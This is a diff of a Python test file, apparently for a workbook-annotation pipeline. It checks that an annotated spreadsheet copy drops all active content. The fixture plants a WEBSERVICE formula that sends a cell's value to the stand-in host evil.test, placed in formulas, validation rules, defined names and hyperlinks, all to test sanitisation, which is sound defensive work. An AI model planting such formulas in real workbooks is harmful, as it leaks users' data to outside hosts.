@@ -1,4 +1,4 @@
-"""検査結果.xlsx is a copy of somebody else's workbook, and calls nothing."""
+"""検査結果.xlsx is a copy of another office's workbook, without active content."""
 
 from __future__ import annotations
 
@@ -26,57 +26,57 @@ from pipeline.model.grid import CellRef
 from pipeline.workbooks.annotate import annotate
 from pipeline.workbooks.inert import is_inert, is_small_enough
 
-CALL = '=WEBSERVICE("http://evil.test/"&A1)'
-FOUND = (finding("name-empty", title="事業名", at=CellRef("事業一覧", 2, 2)),)
+EXTERNAL_CALL = '=WEBSERVICE("http://evil.test/"&A1)'
+FINDINGS = (finding("name-empty", title="事業名", at=CellRef("事業一覧", 2, 2)),)
 
 
 def active_master(path: Path) -> Path:
-    """A master with everything in it that acts."""
+    """A master with every type of active content."""
     write_master(path, [row(1), row(2)], meeting={"回": "第１回"})
     book = openpyxl.load_workbook(path)
     sheet: Any = book["事業一覧"]
     sheet["B2"].font = Font(bold=True)
     sheet.conditional_formatting.add(
         "A1:H9",
-        FormulaRule(formula=[CALL[1:]]),  # type: ignore[no-untyped-call]  # of openpyxl
+        FormulaRule(formula=[EXTERNAL_CALL[1:]]),  # type: ignore[no-untyped-call]  # of openpyxl
     )
-    rule = DataValidation(type="list", formula1=CALL)
+    rule = DataValidation(type="list", formula1=EXTERNAL_CALL)
     rule.add("B2:B9")
     sheet.add_data_validation(rule)
     sheet["B3"].hyperlink = "file://evil.test/share"
     sheet["C3"].hyperlink = "http://evil.test/"
-    sheet["Z1"] = CALL
+    sheet["Z1"] = EXTERNAL_CALL
     sheet["Z2"] = '=HYPERLINK("http://evil.test/","x")'
-    book.defined_names["call"] = DefinedName("call", attr_text=CALL[1:])
-    sheet.defined_names["own"] = DefinedName("own", attr_text=CALL[1:])
+    book.defined_names["call"] = DefinedName("call", attr_text=EXTERNAL_CALL[1:])
+    sheet.defined_names["own"] = DefinedName("own", attr_text=EXTERNAL_CALL[1:])
     sheet.add_table(Table(displayName="T1", ref="A1:H3"))
     chart = BarChart()
     chart.add_data(Reference(sheet, min_col=3, min_row=1, max_row=3))
     sheet.add_chart(chart, "K5")
-    drawn: Any = book.create_chartsheet("図")
-    drawn.add_chart(BarChart())
+    chart_sheet: Any = book.create_chartsheet("図")
+    chart_sheet.add_chart(BarChart())
     book.save(path)
     return path
 
 
-def annotated(path: Path, findings: tuple[Finding, ...] = FOUND) -> bytes:
+def annotated(path: Path, findings: tuple[Finding, ...] = FINDINGS) -> bytes:
     return annotate(read(path), findings)
 
 
-def test_nothing_of_a_stranger_s_acts_in_the_copy(tmp_path: Path) -> None:
+def test_copy_has_no_active_content_of_the_master(tmp_path: Path) -> None:
     content = annotated(active_master(tmp_path / "台帳.xlsx"))
     whole = b"".join(part for _, part in parts(content))
     for word in (b"evil.test", b"WEBSERVICE", b"<f>", b"External", b"dataValidation", b"chart"):
         assert word not in whole
     assert is_inert(content)
     sheet = openpyxl.load_workbook(io.BytesIO(content))["事業一覧"]
-    # Values, formats and our own marks stay.
+    # Values, formats and the comments of the findings stay.
     assert sheet["B3"].value == row(2)["name"]
     assert sheet["B2"].font.b
     assert sheet["B2"].comment is not None
 
 
-def test_the_master_as_it_is_would_not_pass_for_inert(tmp_path: Path) -> None:
+def test_master_with_active_content_is_not_inert(tmp_path: Path) -> None:
     assert not is_inert(active_master(tmp_path / "台帳.xlsx").read_bytes())
 
 
@@ -90,7 +90,7 @@ def test_the_master_as_it_is_would_not_pass_for_inert(tmp_path: Path) -> None:
         ("xl/worksheets/_rels/sheet9.xml.rels", b'<a TargetMode="External"/>'),
     ],
 )
-def test_a_file_with_anything_else_in_it_is_not_inert(
+def test_file_with_any_other_content_is_not_inert(
     tmp_path: Path, part: str, content: bytes
 ) -> None:
     write_master(tmp_path / "台帳.xlsx", [row(1)])
@@ -135,7 +135,7 @@ MERGES = b"".join(b'<mergeCell ref="J%d:K%d"/>' % (n, n) for n in range(1, 49_00
     ],
     ids=["a million styles", "many merges", "one merge over everything", "columns"],
 )
-def test_what_would_take_openpyxl_minutes_is_shown_from_its_values_at_once(
+def test_file_too_slow_for_openpyxl_is_quickly_copied_from_its_values(
     tmp_path: Path, part: str, old: bytes, new: bytes
 ) -> None:
     path = edited(write_master(tmp_path / "台帳.xlsx", [row(1), row(2)]), part, old, new)
@@ -148,12 +148,12 @@ def test_what_would_take_openpyxl_minutes_is_shown_from_its_values_at_once(
     assert sheet["B2"].comment is not None
 
 
-def test_an_ordinary_master_keeps_its_formats(tmp_path: Path) -> None:
+def test_ordinary_master_keeps_its_formats(tmp_path: Path) -> None:
     path = write_master(tmp_path / "台帳.xlsx", [row(n) for n in range(1, 60)])
     assert is_small_enough(path.read_bytes())
 
 
-def test_large_parts_that_no_one_looks_at_are_not_loaded(tmp_path: Path) -> None:
+def test_large_unused_parts_are_not_loaded(tmp_path: Path) -> None:
     path = write_master(tmp_path / "台帳.xlsx", [row(1)])
     with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("xl/pivotCache/records1.xml", b" " * 17_000_000)
